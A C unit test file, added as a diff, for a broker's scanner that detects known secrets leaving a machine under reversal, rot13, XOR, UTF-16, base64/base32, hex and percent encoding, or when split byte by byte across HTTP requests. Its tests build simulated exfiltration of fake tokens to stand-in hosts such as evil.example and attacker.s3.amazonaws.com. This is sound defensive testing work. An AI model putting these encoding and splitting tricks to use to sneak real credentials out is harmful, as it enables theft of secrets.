@@ -1,0 +1,542 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * scan_known_test.c - known secrets (broker/scan/known.h, scan.h
+ * brk_scan_engine_add_known): every transform found, close negatives not
+ * found, engine verdicts by home domain, streams split to single bytes,
+ * and secrets split across messages (brk_scan_split_feed).
+ */
+#include "config.h"
+
+#include <check.h>
+#include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "broker/scan/known.h"
+#include "broker/scan/scan.h"
+#include "t/unit/scan_testutil.h"
+
+static const char S1[] = "npm_Zq8XbT2fLr5WkY1dPc7HnV3sJm6GaE0uRo4i";   /* 40 */
+static const char S2[] = "npm_Qw9YcU3gMs6XlZ2ePd8IoW4tKn7HbF1vSp5j";   /* same shape */
+static const char AKID[] = "AKIA7KLFYYLBEG3RHDSV";
+static const char AWS[] = "Xq7PzR2mLk9VbN4cW8tYs1Hd6Gf3Je0AuIo5E+/a";
+
+struct hits {
+	size_t n;
+	size_t which[64];
+	char xf[64][24];
+};
+
+static int on_hit(void *ctx, size_t which, size_t s, size_t e, const char *xf)
+{
+	struct hits *h = ctx;
+
+	(void)s;
+	(void)e;
+	if (h->n < 64) {
+		h->which[h->n] = which;
+		snprintf(h->xf[h->n], sizeof(h->xf[0]), "%s", xf);
+	}
+	h->n++;
+	return 0;
+}
+
+static struct brk_known *known1(const char *v, int key)
+{
+	struct brk_known_in in = { .v = (const uint8_t *)v, .len = strlen(v), .key = key };
+	struct brk_known *k;
+
+	ck_assert_int_eq(brk_known_new(&in, 1, &k), 0);
+	ck_assert_ptr_nonnull(k);
+	return k;
+}
+
+/* Is the secret found in noise + t + noise? */
+static size_t found_in(const struct brk_known *k, const uint8_t *t, size_t n, struct hits *h)
+{
+	struct tu_buf b = { 0 };
+	size_t r;
+
+	memset(h, 0, sizeof(*h));
+	tu_cats(&b, "POST /x HTTP/1.1\r\nHost: a\r\n\r\nd=");
+	tu_cat(&b, t, n);
+	tu_cats(&b, "&e=1 trailing noise");
+	r = brk_known_scan(k, b.p, b.len, 0, on_hit, h);
+	free(b.p);
+	return r;
+}
+
+static struct tu_buf b32(const uint8_t *p, size_t n)
+{
+	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+	struct tu_buf o = { 0 };
+	size_t i;
+	unsigned acc = 0, nb = 0;
+
+	for (i = 0; i < n; i++) {
+		acc = (acc << 8) | p[i];
+		nb += 8;
+		while (nb >= 5) {
+			nb -= 5;
+			tu_cat(&o, &a[(acc >> nb) & 31], 1);
+		}
+	}
+	if (nb)
+		tu_cat(&o, &a[(acc << (5 - nb)) & 31], 1);
+	return o;
+}
+
+START_TEST(every_transform_found)
+{
+	struct brk_known *k = known1(S1, 0);
+	const uint8_t *s = (const uint8_t *)S1;
+	size_t n = strlen(S1), i, o;
+	uint8_t t[512];
+	struct hits h;
+	struct tu_buf e;
+
+	ck_assert_uint_ge(found_in(k, s, n, &h), 1);
+	for (i = 0; i < n; i++)
+		t[i] = s[n - 1 - i];
+	ck_assert_uint_ge(found_in(k, t, n, &h), 1);
+	ck_assert_str_eq(h.xf[0], "reversed");
+	for (i = 0; i < n; i++)
+		t[i] = (s[i] >= 'a' && s[i] <= 'z') ? 'a' + (s[i] - 'a' + 13) % 26
+		       : (s[i] >= 'A' && s[i] <= 'Z') ? 'A' + (s[i] - 'A' + 13) % 26 : s[i];
+	ck_assert_uint_ge(found_in(k, t, n, &h), 1);
+	ck_assert_str_eq(h.xf[0], "rot13");
+	for (o = 1; o < 256; o += 37) {   /* XOR with several constant keys */
+		for (i = 0; i < n; i++)
+			t[i] = s[i] ^ (uint8_t)o;
+		ck_assert_uint_ge(found_in(k, t, n, &h), 1);
+		ck_assert_str_eq(h.xf[0], "xor");
+	}
+	for (i = 0; i < n; i++) {
+		t[2 * i] = s[i];
+		t[2 * i + 1] = 0;
+	}
+	ck_assert_uint_ge(found_in(k, t, 2 * n, &h), 1);
+	ck_assert_str_eq(h.xf[0], "utf16le");
+	for (i = 0; i < n; i++) {
+		t[2 * i] = 0;
+		t[2 * i + 1] = s[i];
+	}
+	ck_assert_uint_ge(found_in(k, t, 2 * n, &h), 1);
+	ck_assert_str_eq(h.xf[0], "utf16be");
+	/* base64 / base64url / base32 behind 0..4 bytes of other data */
+	for (o = 0; o < 5; o++) {
+		uint8_t in[128];
+
+		memcpy(in, "\x01\x02\x03\x04", o);
+		memcpy(in + o, s, n);
+		memcpy(in + o + n, "\x05\x06\x07", 3);
+		if (o < 3) {
+			e = tu_b64(in, o + n + (o % 3), 0, 1, 0);
+			ck_assert_uint_ge(found_in(k, e.p, e.len, &h), 1);
+			ck_assert_ptr_nonnull(strstr(h.xf[0], "base64"));
+			free(e.p);
+			e = tu_b64(in, o + n + 3, 1, 0, 0);
+			ck_assert_uint_ge(found_in(k, e.p, e.len, &h), 1);
+			free(e.p);
+		}
+		e = b32(in, o + n + 2);
+		ck_assert_uint_ge(found_in(k, e.p, e.len, &h), 1);
+		ck_assert_ptr_nonnull(strstr(h.xf[0], "base32"));
+		free(e.p);
+	}
+	e = tu_hex(s, n, 0);
+	ck_assert_uint_ge(found_in(k, e.p, e.len, &h), 1);
+	free(e.p);
+	e = tu_hex(s, n, 1);
+	ck_assert_uint_ge(found_in(k, e.p, e.len, &h), 1);
+	free(e.p);
+	e = tu_pct_all(s, n);
+	ck_assert_uint_ge(found_in(k, e.p, e.len, &h), 1);
+	ck_assert_str_eq(h.xf[0], "percent");
+	free(e.p);
+	brk_known_free(k);
+}
+END_TEST
+
+START_TEST(close_negatives)
+{
+	struct brk_known_in in[2] = {
+		{ .v = (const uint8_t *)S1, .len = strlen(S1) },
+		{ .v = (const uint8_t *)AWS, .len = strlen(AWS) },
+	};
+	static const char *const negs[] = {
+		S2,                                           /* same shape */
+		"npm_Zq8XbT2",                                /* its own prefix alone */
+		"npm_Zq8XbT2fLr5",                            /* 15 bytes of it: too short */
+		"oRo4i",                                      /* its tail */
+		"550e8400-e29b-41d4-a716-446655440000",       /* UUID */
+		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", /* sha256 */
+		"da39a3ee5e6b4b0d3255bfef95601890afd80709",   /* sha1 */
+		"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",   /* the AWS docs example */
+		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+		NULL,
+	};
+	struct brk_known *k;
+	struct hits h;
+	uint8_t *rnd;
+	size_t i;
+	uint32_t x = 12345;
+
+	ck_assert_int_eq(brk_known_new(in, 2, &k), 0);
+	/* but a part of it is the secret: without its last byte, without a
+	 * checksum tail (last 6), its second half, reversed too */
+	ck_assert_uint_ge(found_in(k, (const uint8_t *)S1, strlen(S1) - 1, &h), 1);
+	ck_assert_uint_ge(found_in(k, (const uint8_t *)S1, strlen(S1) - 6, &h), 1);
+	ck_assert_uint_ge(found_in(k, (const uint8_t *)S1 + 16, 24, &h), 1);
+	{
+		uint8_t t[40];
+
+		for (i = 0; i < 24; i++)
+			t[i] = (uint8_t)S1[23 - i];
+		ck_assert_uint_ge(found_in(k, t, 24, &h), 1);
+	}
+	for (i = 0; negs[i]; i++) {
+		struct tu_buf e = tu_b64(negs[i], strlen(negs[i]), 0, 1, 0);
+
+		ck_assert_msg(found_in(k, (const uint8_t *)negs[i], strlen(negs[i]), &h) == 0,
+			      "negative %zu found (%s)", i, h.xf[0]);
+		ck_assert_uint_eq(found_in(k, e.p, e.len, &h), 0);
+		free(e.p);
+	}
+	/* 4 MiB of noise, text and binary: no XOR-delta or piece collisions */
+	rnd = malloc(4u << 20);
+	for (i = 0; i < (4u << 20); i++) {
+		x = x * 1103515245u + 12345u;
+		rnd[i] = i < (2u << 20) ? (uint8_t)(x >> 24) : (uint8_t)(' ' + (x >> 24) % 95);
+	}
+	memset(&h, 0, sizeof(h));
+	ck_assert_uint_eq(brk_known_scan(k, rnd, 4u << 20, 0, on_hit, &h), 0);
+	free(rnd);
+	/* short and low-entropy values compile to nothing */
+	brk_known_free(k);
+	in[0].v = (const uint8_t *)"true";
+	in[0].len = 4;
+	ck_assert_int_eq(brk_known_new(in, 1, &k), 0);
+	ck_assert_uint_eq(brk_known_npatterns(k), 0);
+	brk_known_free(k);
+}
+END_TEST
+
+/* A fake OpenSSH-style key: armor + 70-column base64 of 300 bytes. */
+static char *fake_key(struct tu_buf *body_joined, struct tu_buf *blob)
+{
+	struct tu_buf raw = { 0 }, b;
+	size_t i;
+	uint32_t x = 99;
+	uint8_t bin[300];
+
+	for (i = 0; i < sizeof(bin); i++) {
+		x = x * 1664525u + 1013904223u;
+		bin[i] = (uint8_t)(x >> 24);
+	}
+	b = tu_b64(bin, sizeof(bin), 0, 1, 0);
+	tu_cats(&raw, "-----BEGIN OPENSSH PRIVATE KEY-----\n");
+	for (i = 0; i < b.len; i += 70) {
+		tu_cat(&raw, b.p + i, b.len - i < 70 ? b.len - i : 70);
+		tu_cats(&raw, "\n");
+	}
+	tu_cats(&raw, "-----END OPENSSH PRIVATE KEY-----\n");
+	tu_cat(&raw, "", 1);
+	*body_joined = b;
+	memset(blob, 0, sizeof(*blob));
+	tu_cat(blob, bin, sizeof(bin));
+	return (char *)raw.p;
+}
+
+START_TEST(key_body)
+{
+	struct tu_buf body, blob, e;
+	char *key = fake_key(&body, &blob);
+	struct brk_known *k = known1(key, 1);
+	struct hits h;
+	size_t i;
+
+	/* the whole file, the body with line breaks, joined, decoded, parts */
+	ck_assert_uint_ge(found_in(k, (const uint8_t *)key, strlen(key), &h), 1);
+	ck_assert_uint_ge(found_in(k, (const uint8_t *)key + 36, 150, &h), 1);
+	ck_assert_uint_ge(found_in(k, body.p, body.len, &h), 1);
+	ck_assert_uint_ge(found_in(k, body.p + 100, 80, &h), 1);
+	ck_assert_uint_ge(found_in(k, blob.p, blob.len, &h), 1);
+	for (i = 0; i < blob.len; i++)
+		blob.p[i] ^= 0x33;
+	ck_assert_uint_ge(found_in(k, blob.p, blob.len, &h), 1);
+	e = tu_hex(body.p, body.len, 0);
+	ck_assert_uint_ge(found_in(k, e.p, e.len, &h), 1);
+	free(e.p);
+	/* only the armor line: nothing */
+	ck_assert_uint_eq(found_in(k, (const uint8_t *)key, 36, &h), 0);
+	brk_known_free(k);
+	free(key);
+	free(body.p);
+	free(blob.p);
+}
+END_TEST
+
+static struct brk_scan_engine *engine_known(void)
+{
+	static const char *const npm_home[] = { "npm.example.com" };
+	struct brk_scan_known kn[3] = {
+		{ .value = (const uint8_t *)S1, .len = strlen(S1), .home = npm_home, .nhome = 1 },
+		{ .value = (const uint8_t *)AKID, .len = strlen(AKID),
+		  .detector = "aws-access-key-id" },
+		{ .value = (const uint8_t *)AWS, .len = strlen(AWS) },
+	};
+	struct brk_scan_engine *e = tu_engine(0, NULL, 0);
+
+	ck_assert_int_eq(brk_scan_engine_add_known(e, kn, 3), 0);
+	return e;
+}
+
+START_TEST(engine_verdicts)
+{
+	struct brk_scan_engine *e = engine_known();
+	struct brk_scan_result r;
+	struct brk_scan_known bad = { .value = (const uint8_t *)S2, .len = 40, .detector = "nope" };
+	uint8_t t[128];
+	size_t i, n = strlen(S1);
+
+	for (i = 0; i < n; i++)
+		t[i] = (uint8_t)S1[n - 1 - i];
+	ck_assert_int_eq(brk_scan_buffer(e, t, n, "evil.example", &r), 0);
+	ck_assert(r.blocked);
+	ck_assert(tu_has(&r, "known-secret"));
+	ck_assert_ptr_null(memmem(r.findings[0].redacted, strlen(r.findings[0].redacted), S1, 12));
+	ck_assert_str_eq(r.findings[0].layers, "reversed");
+	ck_assert_int_eq(brk_scan_buffer(e, t, n, "npm.example.com", &r), 0);
+	ck_assert(!r.blocked);
+	ck_assert(tu_has(&r, "known-secret") && r.findings[0].in_scope);
+	/* a detector's homes apply too: the AWS key XOR'd, to AWS and elsewhere */
+	for (i = 0; i < 20; i++)
+		t[i] = (uint8_t)AKID[i] ^ 0x41;
+	ck_assert_int_eq(brk_scan_buffer(e, t, 20, "sts.amazonaws.com", &r), 0);
+	ck_assert(!r.blocked);
+	ck_assert_int_eq(brk_scan_buffer(e, t, 20, "evil.example", &r), 0);
+	ck_assert(r.blocked);
+	/* ... and its exclusions: a bucket is anyone's */
+	ck_assert_int_eq(brk_scan_buffer(e, t, 20, "attacker.s3.amazonaws.com", &r), 0);
+	ck_assert(r.blocked);
+	for (i = 0; i < 40; i++)
+		t[i] = (uint8_t)AWS[i] ^ 0x41;
+	/* base64 of the XOR'd bytes: the decode graph, then the delta */
+	{
+		struct tu_buf b = tu_b64(t, 40, 0, 1, 0);
+
+		ck_assert_int_eq(brk_scan_buffer(e, b.p, b.len, "evil.example", &r), 0);
+		ck_assert(r.blocked && tu_has(&r, "known-secret"));
+		free(b.p);
+	}
+	/* one byte per write on one connection, XOR'd */
+	ck_assert_int_eq(tu_stream(e, t, 40, 1, "evil.example", &r), 0);
+	ck_assert(r.blocked && tu_has(&r, "known-secret"));
+	/* the same value sent twice on one stream is refused twice */
+	{
+		struct brk_scan_stream *s;
+
+		ck_assert_int_eq(brk_scan_stream_open(e, &s), 0);
+		ck_assert_int_eq(brk_scan_stream_feed(s, t, 40, "evil.example", &r), 0);
+		ck_assert(r.blocked);
+		ck_assert_int_eq(brk_scan_stream_feed(s, t, 40, "evil.example", &r), 0);
+		ck_assert(r.blocked);
+		brk_scan_stream_close(s);
+	}
+	/* ... also when only a decoded layer holds it (base64 of the XOR) */
+	{
+		struct brk_scan_stream *s;
+		struct tu_buf b = tu_b64(t, 40, 0, 1, 0);
+
+		tu_cats(&b, "\r\n");
+		ck_assert_int_eq(brk_scan_stream_open(e, &s), 0);
+		for (i = 0; i < 3; i++) {
+			ck_assert_int_eq(brk_scan_stream_feed(s, b.p, b.len, "evil.example", &r), 0);
+			ck_assert_msg(r.blocked, "resend %zu of base64(xor) not refused", i);
+		}
+		brk_scan_stream_close(s);
+		free(b.p);
+	}
+	ck_assert_int_eq(brk_scan_engine_add_known(e, &bad, 1), -EINVAL);
+	/* the earlier set stays */
+	ck_assert_int_eq(brk_scan_buffer(e, (const uint8_t *)S1, n, "evil.example", &r), 0);
+	ck_assert(r.blocked);
+	/* a policy reload's new engine gets the same known secrets */
+	{
+		static const char *const can[] = { "xoxb-123456789012-1234567890123-ReloadCanaryAbCd" };
+		struct brk_scan_engine *e2 = tu_engine(0, can, 1);
+		uint8_t rv[64];
+
+		ck_assert_int_eq(brk_scan_engine_copy_known(e2, e), 0);
+		for (i = 0; i < n; i++)
+			rv[i] = (uint8_t)S1[n - 1 - i];
+		ck_assert_int_eq(brk_scan_buffer(e2, rv, n, "evil.example", &r), 0);
+		ck_assert(r.blocked && tu_has(&r, "known-secret"));
+		ck_assert_int_eq(brk_scan_buffer(e2, rv, n, "npm.example.com", &r), 0);
+		ck_assert(!r.blocked);   /* with its homes */
+		for (i = 0; i < strlen(can[0]); i++)
+			rv[i] = (uint8_t)can[0][strlen(can[0]) - 1 - i];
+		ck_assert_int_eq(brk_scan_buffer(e2, rv, strlen(can[0]), "x.example", &r), 0);
+		ck_assert(r.blocked && r.findings[0].canary);   /* and its own canaries */
+		brk_scan_engine_free(e2);
+	}
+	ck_assert_ptr_nonnull(brk_scan_recognize((const uint8_t *)"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", 40));
+	ck_assert_ptr_null(brk_scan_recognize((const uint8_t *)"hello world, nothing", 20));
+	brk_scan_engine_free(e);
+}
+END_TEST
+
+static int send_msg(const struct brk_scan_engine *e, const char *host, const char *m, size_t n)
+{
+	struct brk_scan_result r;
+
+	memset(&r, 0, sizeof(r));
+	ck_assert_int_eq(brk_scan_split_feed(e, host, (const uint8_t *)m, n, &r), 0);
+	return r.blocked;
+}
+
+START_TEST(split_across_messages)
+{
+	struct brk_scan_engine *e = engine_known();
+	char m[512];
+	size_t i, n = strlen(S1);
+	int blocked = 0, at = -1;
+
+	/* one byte per request, in a query value, with a changing nonce; the
+	 * attacker retries a refused byte and goes on: all refused from then */
+	for (i = 0; i < n; i++) {
+		int l = snprintf(m, sizeof(m), "GET /c?n%zu=%u&d=%%%02x HTTP/1.1\r\nHost: evil.example\r\n"
+				 "User-Agent: x\r\n\r\n", i, (unsigned)(i * 7919), (unsigned char)S1[i]);
+		int b = send_msg(e, "evil.example", m, (size_t)l);
+
+		if (b && at < 0)
+			at = (int)i;
+		if (at >= 0) {
+			ck_assert_msg(b, "byte %zu after the refusal went out", i);
+			ck_assert(send_msg(e, "evil.example", m, (size_t)l));   /* the retry */
+		}
+	}
+	/* another host is not affected */
+	snprintf(m, sizeof(m), "GET /?x=1 HTTP/1.1\r\n\r\n");
+	ck_assert(!send_msg(e, "other.example", m, strlen(m)));
+	/* at the byte that completes enough of it: 24 of 40 */
+	ck_assert_int_ge(at, 15);
+	ck_assert_int_le(at, 24);
+	/* half in each of two bodies (two connections: same host) */
+	snprintf(m, sizeof(m), "POST /u HTTP/1.1\r\nHost: evil2.example\r\nContent-Length: 15\r\n\r\n%.15s", S1);
+	blocked |= send_msg(e, "evil2.example", m, strlen(m));
+	ck_assert(!blocked);
+	snprintf(m, sizeof(m), "%s", S1 + 15);   /* a bare body write */
+	ck_assert(send_msg(e, "evil2.example", m, strlen(m)));
+	/* a byte per header value, reversed */
+	blocked = 0;
+	for (i = 0; i < n; i++) {
+		int l = snprintf(m, sizeof(m), "GET / HTTP/1.1\r\nX-T: %c\r\n\r\n", S1[n - 1 - i]);
+
+		blocked |= send_msg(e, "h2.example", m, (size_t)l);
+	}
+	ck_assert(blocked);
+	/* JSON values, one byte each, to the home: allowed */
+	blocked = 0;
+	for (i = 0; i < n; i++) {
+		int l = snprintf(m, sizeof(m), "{\"k\":\"%c\"}", S1[i]);
+
+		blocked |= send_msg(e, "npm.example.com", m, (size_t)l);
+	}
+	ck_assert(!blocked);
+	/* ordinary traffic: nothing */
+	blocked = 0;
+	for (i = 0; i < 500; i++) {
+		int l = snprintf(m, sizeof(m), "GET /pkg/%zu?v=%zu HTTP/1.1\r\nHost: r\r\n"
+				 "If-None-Match: \"%08zx\"\r\n\r\n", i, i * 31, i * 2654435761u);
+
+		blocked |= send_msg(e, "registry.example", m, (size_t)l);
+	}
+	ck_assert(!blocked);
+	brk_scan_engine_free(e);
+}
+END_TEST
+
+START_TEST(canaries_in_transforms)
+{
+	static const char *const can[] = { "ghp_CanaryCanaryCanary0123456789abcdef" };
+	struct brk_scan_engine *e = tu_engine(0, can, 1);
+	struct brk_scan_result r;
+	uint8_t t[64];
+	size_t i, n = strlen(can[0]);
+
+	ck_assert_int_eq(brk_scan_engine_add_known(e, NULL, 0), 0);
+	for (i = 0; i < n; i++)
+		t[i] = (uint8_t)can[0][n - 1 - i];
+	ck_assert_int_eq(brk_scan_buffer(e, t, n, "github.com", &r), 0);
+	ck_assert(r.blocked && r.nfindings && r.findings[0].canary);
+	ck_assert_int_eq(brk_scan_buffer(e, (const uint8_t *)can[0], n, "github.com", &r), 0);
+	ck_assert(r.blocked);
+	ck_assert_uint_eq(r.nfindings, 1);  /* one finding, not one per matcher */
+	brk_scan_engine_free(e);
+}
+END_TEST
+
+/* The message parser on garbage: HTTP-ish fragments, binary, truncated
+ * lines, long values (ASan/UBSan builds run this too). */
+START_TEST(split_parser_garbage)
+{
+	static const char *const bits[] = {
+		"GET ", "POST ", "/", "?", "&", "=", "%", "%4", "%zz", " HTTP/1.1", "\r\n", "\n",
+		"X-A: ", ":", "{\"k\":\"", "\"", "\\", "}", "[", "\x16\x03", "PRI * HTTP/2.0",
+		"\x00", "\xff", "d1=", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", S1,
+	};
+	struct brk_scan_engine *e = engine_known();
+	uint8_t m[20000];
+	uint32_t x = 4242;
+	size_t i, n, k;
+
+	for (i = 0; i < 3000; i++) {
+		n = 0;
+		for (k = 0; k < 1 + i % 40; k++) {
+			const char *b;
+			size_t bl;
+
+			x = x * 1103515245u + 12345u;
+			b = bits[(x >> 16) % (sizeof(bits) / sizeof(bits[0]))];
+			bl = strlen(b) ? strlen(b) : 1;   /* "\x00" */
+			if (n + bl > sizeof(m))
+				break;
+			memcpy(m + n, b, bl);
+			n += bl;
+		}
+		if (i % 100 == 0) {   /* now and then one big message */
+			memset(m + n, 'v', sizeof(m) - n);
+			n = sizeof(m);
+		}
+		{
+			struct brk_scan_result r;
+			char host[32];
+
+			snprintf(host, sizeof(host), "g%u.example", (unsigned)(i % 40));
+			memset(&r, 0, sizeof(r));
+			ck_assert_int_ge(brk_scan_split_feed(e, host, m, n, &r), 0);
+		}
+	}
+	brk_scan_engine_free(e);
+}
+END_TEST
+
+Suite *scan_known_suite(void)
+{
+	Suite *s = suite_create("scan_known");
+	TCase *tc = tcase_create("known");
+
+	tcase_set_timeout(tc, 60);
+	tcase_add_test(tc, every_transform_found);
+	tcase_add_test(tc, close_negatives);
+	tcase_add_test(tc, key_body);
+	tcase_add_test(tc, engine_verdicts);
+	tcase_add_test(tc, split_across_messages);
+	tcase_add_test(tc, canaries_in_transforms);
+	tcase_add_test(tc, split_parser_garbage);
+	suite_add_tcase(s, tc);
+	return s;
+}
